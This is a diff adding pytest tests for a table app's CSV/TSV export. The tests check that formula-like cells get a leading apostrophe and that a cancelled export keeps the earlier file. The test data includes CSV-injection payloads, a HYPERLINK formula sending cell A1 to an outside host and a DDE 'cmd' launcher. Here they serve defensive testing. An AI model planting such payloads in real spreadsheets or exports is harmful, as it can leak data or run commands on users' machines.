@@ -200,3 +200,39 @@ def test_a_job_nobody_holds_any_more_is_freed_in_the_gui_thread(qtbot, tmp_path:
     qtbot.waitUntil(lambda: bool(freed_in), timeout=30_000)
     assert freed_in == [threading.main_thread()]
     assert (tmp_path / "big.csv").stat().st_size > 0
+
+
+HOSTILE_CELLS = ['=HYPERLINK("http://x.es/?"&A1,"clic")', "+cmd|' /C calc'!A0", "-2+3",
+                 "@sum(A1)", "\tTAB", "\rCR", "ñandú", "a=b"]
+
+
+@pytest.mark.parametrize(("name", "delimiter"), [("cells.csv", ","), ("cells.tsv", "\t")])
+def test_csv_cells_that_start_like_formulas_are_neutralized(
+        qtbot, tmp_path: Path, name: str, delimiter: str) -> None:
+    """Issue 19, fault 5: OWASP's leading apostrophe, numbers untouched."""
+    conn = sqlite3.connect(tmp_path / "cells.sqlite")
+    conn.execute("CREATE TABLE t (id INTEGER PRIMARY KEY, text TEXT, n INTEGER)")
+    conn.executemany("INSERT INTO t (text, n) VALUES (?, ?)",
+                     [(t, -i) for i, t in enumerate(HOSTILE_CELLS)])
+    model = SqlTableModel(conn, "t", [Column("id", "Id", True), Column("text", "Text"),
+                                      Column("n", "N", True)], "id")
+    path = tmp_path / name
+    write_csv(conn, model.view_query(), path, delimiter)
+    with path.open(encoding="utf-8", newline="") as handle:
+        rows = list(csv.reader(handle, delimiter=delimiter))[1:]
+    assert [r[1] for r in rows] == ["'" + t for t in HOSTILE_CELLS[:6]] + HOSTILE_CELLS[6:]
+    assert [r[2] for r in rows] == [str(-i) for i in range(len(HOSTILE_CELLS))]
+    conn.close()
+
+
+def test_a_csv_export_that_fails_keeps_the_earlier_file(qtbot, tmp_path: Path) -> None:
+    """Issue 19, fault 14: written under a temporary name, renamed when complete."""
+    conn = big_table(tmp_path, PROGRESS_EVERY + 1)
+    model = SqlTableModel(conn, "t", [Column("id", "Id", True), Column("form", "Form")], "id")
+    path = tmp_path / "big.csv"
+    path.write_text("earlier export\n", encoding="utf-8")
+    with pytest.raises(ExportCancelled):
+        write_csv(conn, model.view_query(), path, progress=lambda rows: False)
+    assert path.read_text(encoding="utf-8") == "earlier export\n"
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["big.csv", "big.sqlite"]
+    conn.close()
